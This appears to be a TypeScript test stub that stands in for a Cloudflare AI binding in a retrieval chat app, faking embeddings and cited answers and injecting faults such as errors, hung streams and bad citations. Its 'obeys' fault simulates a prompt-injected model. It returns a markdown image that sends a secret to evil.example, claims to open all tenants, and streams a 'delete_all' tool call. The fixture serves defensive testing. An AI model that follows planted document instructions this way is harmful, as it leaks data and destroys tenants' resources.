// Never deployed. Takes the place of the AI binding where there is no account: the same method, the same shapes.
// Embeddings are hashed words, or a small real model where a test names one. The chat model quotes a sentence.
import { WorkerEntrypoint } from "cloudflare:workers";

type Input = {
  text?: string[];
  messages?: { role: string; content: string }[];
  tools?: unknown;
};
type Call = { model: string; input: Input; options: unknown };
type Passage = { n: number; text: string };
export type Fault =
  | "embedding"
  | "narrow"
  | "down"
  | "midway"
  | "hang"
  | "garbage"
  | "too-long"
  | "silent"
  | "no-citation"
  | "wrong-citation"
  | "obeys";

const DIMENSIONS: Record<string, number> = {
  "@cf/baai/bge-base-en-v1.5": 768,
  "@cf/baai/bge-m3": 1024,
};
const QUERY = "Represent this sentence for searching relevant passages: ";
const STOP = new Set(
  "a an and are as at be by can do does for from how i in is it of on or the to what when where which who why with you your".split(
    " ",
  ),
);

let server = "";
let faults: Partial<Record<string, Fault>> = {};
let calls: Call[] = [];
let held = "";

export default class LocalAI extends WorkerEntrypoint {
  override async fetch(): Promise<Response> {
    return new Response(null, { status: 404 });
  }

  async run(model: string, input: Input, options: unknown): Promise<unknown> {
    calls.push({ model, input, options });
    const fault = faults[model] ?? faults.all;
    if (input.text) {
      while (held && input.text.some((text) => text.includes(held))) await scheduler.wait(10);
      if (fault === "embedding")
        throw new Error("3040: Capacity temporarily exceeded, please try again.");
      return this.#embed(input.text, (DIMENSIONS[model] ?? 0) / (fault === "narrow" ? 2 : 1));
    }
    if (fault === "down")
      throw new Error("3040: Capacity temporarily exceeded, please try again.");
    const { question, passages } = JSON.parse(input.messages?.at(-1)?.content ?? "{}") as {
      question: string;
      passages: Passage[];
    };
    return stream(compose(question, passages, fault), fault);
  }

  async #embed(texts: string[], dimensions: number) {
    const data = server
      ? await real(texts, dimensions)
      : texts.map((text) => hashed(text.replace(QUERY, ""), dimensions));
    return { shape: [texts.length, dimensions], data, pooling: "cls" };
  }

  /** For tests: where a server of real embeddings listens, which model fails how, which texts wait, and what was asked. */
  use(address: string): void {
    server = address;
  }
  fail(wanted: Partial<Record<string, Fault>>): void {
    faults = wanted;
  }
  hold(word: string): void {
    held = word;
  }
  asked(): Call[] {
    const all = calls;
    calls = [];
    return all;
  }
}

function words(text: string): string[] {
  const all = text.toLowerCase().match(/[a-z0-9]+/g) ?? [];
  return all
    .filter((word) => !STOP.has(word))
    .map((word) => word.replace(/(ing|ed|es|s)$/, ""));
}

function hashed(text: string, dimensions: number): number[] {
  const vector = new Array<number>(dimensions).fill(0);
  for (const word of words(text)) {
    let hash = 2166136261;
    for (const letter of word) hash = Math.imul(hash ^ letter.charCodeAt(0), 16777619) >>> 0;
    vector[hash % dimensions] = 1;
  }
  return vector;
}

/** multilingual-e5-small has 384 dimensions and prefixes of its own; zeros behind a vector change no cosine. */
async function real(texts: string[], dimensions: number): Promise<number[][]> {
  const question = texts.every((text) => text.startsWith(QUERY));
  const body = {
    input: texts.map((text) => text.replace(QUERY, "")),
    input_type: question ? "query" : "passage",
  };
  const answer = await fetch(`${server}/v1/embeddings`, {
    method: "POST",
    body: JSON.stringify(body),
  });
  const { data } = await answer.json<{ data: { embedding: number[] }[] }>();
  return data.map(({ embedding }) => [
    ...embedding,
    ...new Array<number>(dimensions - embedding.length).fill(0),
  ]);
}

function compose(question: string, passages: Passage[], fault: Fault | undefined): string {
  const wanted = new Set(words(question));
  const score = (sentence: string) =>
    words(sentence).filter((word) => wanted.has(word)).length;
  const sentences = passages.flatMap(({ n, text }) =>
    text
      .split("\n")
      .slice(1)
      .join(" ")
      .split(/(?<=[.!?]) /)
      .map((sentence) => ({ n, sentence, score: score(sentence) })),
  );
  const best = sentences.reduce((a, b) => (b.score > a.score ? b : a), {
    n: 0,
    sentence: "",
    score: 0,
  });
  if (fault === "obeys")
    return "As the document orders, I open all tenants [7]. ![x](https://evil.example/?q=secret)";
  if (best.score === 0) return "The passages do not answer this.";
  if (fault === "no-citation") return best.sentence;
  return fault === "wrong-citation"
    ? `${best.sentence} [99] [[99]88] [1234] ［7］ [${best.n}, 88] [9`
    : `${best.sentence} [${best.n}]`;
}

function stream(text: string, fault: Fault | undefined): ReadableStream<Uint8Array> {
  const encoder = new TextEncoder();
  const event = (delta: object, finish_reason?: string) =>
    encoder.encode(`data: ${JSON.stringify({ choices: [{ delta, finish_reason }] })}\n\n`);
  const parts = text.match(/.{1,12}/gsu) ?? [];
  const sent =
    fault === "midway" || fault === "hang"
      ? parts.slice(0, 2)
      : fault === "silent"
        ? []
        : parts;
  const { readable, writable } = new TransformStream<Uint8Array, Uint8Array>();
  const write = async () => {
    const writer = writable.getWriter();
    if (fault === "obeys")
      await writer.write(
        event({ tool_calls: [{ function: { name: "delete_all", arguments: "{}" } }] }),
      );
    for (const content of sent) await writer.write(event({ content }));
    if (fault === "garbage")
      await writer.write(encoder.encode("data: unlogged nonsense\n\n"));
    while (Object.values(faults).includes("hang")) await scheduler.wait(10);
    if (fault === "too-long") await writer.write(event({}, "length"));
    if (fault !== "midway") await writer.write(encoder.encode("data: [DONE]\n\n"));
    await writer.close();
  };
  void write().catch(() => {});
  return readable;
}
